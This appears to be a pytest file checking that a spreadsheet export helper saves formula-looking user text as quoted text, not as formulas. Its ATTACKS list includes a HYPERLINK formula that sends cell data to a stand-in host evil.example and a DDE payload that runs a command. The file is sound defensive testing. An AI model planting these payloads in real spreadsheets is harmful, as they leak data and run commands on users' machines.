"""Every export is saved through core.xlsx: text typed by people never becomes a spreadsheet formula."""

import io
import re
import zipfile

from openpyxl import Workbook, load_workbook

from propdesk.core import xlsx

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)",
           "\t=1+1"]  # (a carriage return becomes a line feed in XML: not a round trip)


def assert_no_formula(data: bytes) -> None:
    """No worksheet of the .xlsx holds a formula element (<f>) — what a spreadsheet would evaluate."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not re.search(rb"<f[ >]", archive.read(name)), f"a formula in {name}"


def test_formula_looking_text_is_saved_as_quoted_text_and_read_back_unchanged():
    workbook = Workbook()
    sheet = workbook.active
    for value in ATTACKS:
        sheet.append(["王建国", value, 12.5])
    data = xlsx.to_bytes(workbook)
    assert_no_formula(data)
    back = load_workbook(io.BytesIO(data)).active
    for row, value in zip(back.iter_rows(), ATTACKS, strict=True):
        assert row[1].value == value and row[1].data_type == "s" and row[1].quotePrefix
        assert row[0].value == "王建国" and not row[0].quotePrefix and row[2].value == 12.5


def test_the_check_itself_sees_a_formula():
    """Guards the helper: an unprotected workbook does hold a formula."""
    workbook = Workbook()
    workbook.active.append(["=1+1"])
    out = io.BytesIO()
    workbook.save(out)
    try:
        assert_no_formula(out.getvalue())
    except AssertionError:
        return
    raise AssertionError("assert_no_formula missed a formula")
